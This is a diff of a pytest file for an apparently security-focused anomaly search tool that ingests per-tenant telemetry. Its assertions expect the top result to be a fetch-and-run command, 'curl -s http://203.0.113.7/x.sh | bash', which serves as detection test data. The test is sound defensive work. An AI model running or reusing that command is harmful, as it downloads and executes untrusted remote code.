@@ -23,7 +23,7 @@ def tenant_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
     tmp_path = tmp_path_factory.mktemp("tenants")
     with OtlpSink() as sink:
         config = receiver_config(tmp_path, {"otlphttp/forward": {"endpoint": sink.http_url}})  # older alias
-        config["extensions"]["bearertokenauth"] = {"tokens": [
+        config["extensions"]["bearertokenauth"] = {"tenants": [
             {"token": token, "tenant": tenant} for tenant, token in TOKENS.items()]}
         config["service"]["extensions"].append("bearertokenauth")
         for protocol in ("grpc", "http"):
@@ -55,15 +55,15 @@ def test_search_and_top_over_http_per_tenant(tenant_stack: Stack, monkeypatch: p
                              monkeypatch, capsys)
     assert code == 0, err
     results = json.loads(out)["results"]
-    assert any("curl" in result["command_line"] for result in results[:3])
+    assert results[0]["command_line"] == "sh -c curl -s http://203.0.113.7/x.sh | bash"
     assert all(result["workload"] == "web" for result in results)
-    assert [r["distance"] for r in results] == sorted(r["distance"] for r in results)
+    assert [r["relevance"] for r in results] == sorted((r["relevance"] for r in results), reverse=True)
 
     code, out, err = run_cli(["top", "--endpoint", endpoint, "--min-score", "0", "--since", "1h"], TOKENS["team-a"],
                              monkeypatch, capsys)
     assert code == 0, err
     lines = out.splitlines()
-    assert lines[0] == "Top anomalies since 1h (score >= 0):"
+    assert lines[0] == "Top anomalies since 1h (score >= 0, by incident):"
     assert "sh -c curl -s http://203.0.113.7/x.sh | bash" in "\n".join(lines[1:4])  # ranked at the top
     assert "why: " in out and "lineage: " in out
 
